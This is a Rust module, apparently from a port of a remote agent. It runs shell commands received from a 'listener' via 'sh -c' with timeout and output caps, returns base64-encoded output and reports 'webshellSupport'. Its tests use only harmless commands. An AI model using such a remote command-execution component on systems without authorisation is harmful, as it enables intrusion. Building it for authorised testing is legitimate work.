//! Runs a `cmd` request in a subshell and captures its output.
//!
//! The reference agent wraps every command in `timeout 4 <cmd>` and caps
//! each output stream at `PATH_MAX` (4096) bytes, growing a C buffer by hand
//! as it reads past that. This port keeps both behaviors: a `timeout`
//! wrapper when the utility is available, and a hard 4096-byte-per-stream
//! cap, plus a wall-clock backstop in case `timeout` itself is missing.

use crate::error::{Error, Result};
use base64::prelude::*;
use std::process::Stdio;
use tokio::io::{AsyncReadExt, BufReader};
use tokio::process::Command;
use tokio::time::{timeout, Duration};

const PER_STREAM_CAP: usize = 4096;
const WALL_CLOCK_CAP: Duration = Duration::from_secs(4);

pub struct CommandOutput {
    pub stdout_b64: String,
    pub stderr_b64: String,
}

/// Whether the `timeout` coreutil is on `PATH`. Resolved once by the caller
/// and reused for every command, and also reported back to the listener as
/// `webshellSupport` in the `config` message.
pub async fn timeout_util_available() -> bool {
    Command::new("timeout")
        .arg("--version")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .await
        .map(|status| status.success())
        .unwrap_or(false)
}

pub struct CommandRunner {
    has_timeout: bool,
}

impl CommandRunner {
    pub fn new(has_timeout: bool) -> Self {
        Self {
            has_timeout,
        }
    }

    /// Runs `cmd_string` through `sh -c`, draining stdout/stderr
    /// concurrently, and returns both streams base64-encoded and capped.
    pub async fn run(&self, cmd_string: &str) -> Result<CommandOutput> {
        let shell_line = if self.has_timeout {
            format!("timeout 4 {}", cmd_string)
        } else {
            cmd_string.to_string()
        };

        let mut child = Command::new("sh")
            .arg("-c")
            .arg(&shell_line)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| Error::CommandLaunchFailed(e.to_string()))?;

        let mut stdout = BufReader::new(child.stdout.take().expect("stdout was piped"));
        let mut stderr = BufReader::new(child.stderr.take().expect("stderr was piped"));

        let drain = async move {
            tokio::join!(
                drain_capped(&mut stdout, PER_STREAM_CAP),
                drain_capped(&mut stderr, PER_STREAM_CAP),
            )
        };

        let (stdout_bytes, stderr_bytes) = match timeout(WALL_CLOCK_CAP, drain).await {
            Ok(pair) => pair,
            Err(_) => {
                let _ = child.start_kill();
                (Vec::new(), Vec::new())
            }
        };

        let _ = child.wait().await;

        Ok(CommandOutput {
            stdout_b64: BASE64_STANDARD.encode(stdout_bytes),
            stderr_b64: BASE64_STANDARD.encode(stderr_bytes),
        })
    }
}

async fn drain_capped<R: tokio::io::AsyncRead + Unpin>(reader: &mut R, cap: usize) -> Vec<u8> {
    let mut buf = vec![0u8; cap];
    let mut total = 0;
    while total < cap {
        match reader.read(&mut buf[total..]).await {
            Ok(0) => break,
            Ok(n) => total += n,
            Err(_) => break,
        }
    }
    buf.truncate(total);
    buf
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn run_captures_stdout_and_stderr() {
        let runner = CommandRunner::new(false);
        let out = runner.run("echo hello; echo world 1>&2").await.unwrap();

        let stdout = BASE64_STANDARD.decode(&out.stdout_b64).unwrap();
        let stderr = BASE64_STANDARD.decode(&out.stderr_b64).unwrap();
        assert_eq!(String::from_utf8(stdout).unwrap().trim(), "hello");
        assert_eq!(String::from_utf8(stderr).unwrap().trim(), "world");
    }

    #[tokio::test]
    async fn run_wraps_with_timeout_when_available() {
        // only meaningful when `timeout` exists on PATH; skip otherwise
        if !timeout_util_available().await {
            return;
        }
        let runner = CommandRunner::new(true);
        let out = runner.run("echo capped").await.unwrap();
        let stdout = BASE64_STANDARD.decode(&out.stdout_b64).unwrap();
        assert_eq!(String::from_utf8(stdout).unwrap().trim(), "capped");
    }

    #[tokio::test]
    async fn run_truncates_output_past_the_per_stream_cap() {
        let runner = CommandRunner::new(false);
        let out = runner
            .run("yes x | head -c 20000")
            .await
            .unwrap();
        let stdout = BASE64_STANDARD.decode(&out.stdout_b64).unwrap();
        assert_eq!(stdout.len(), PER_STREAM_CAP);
    }
}
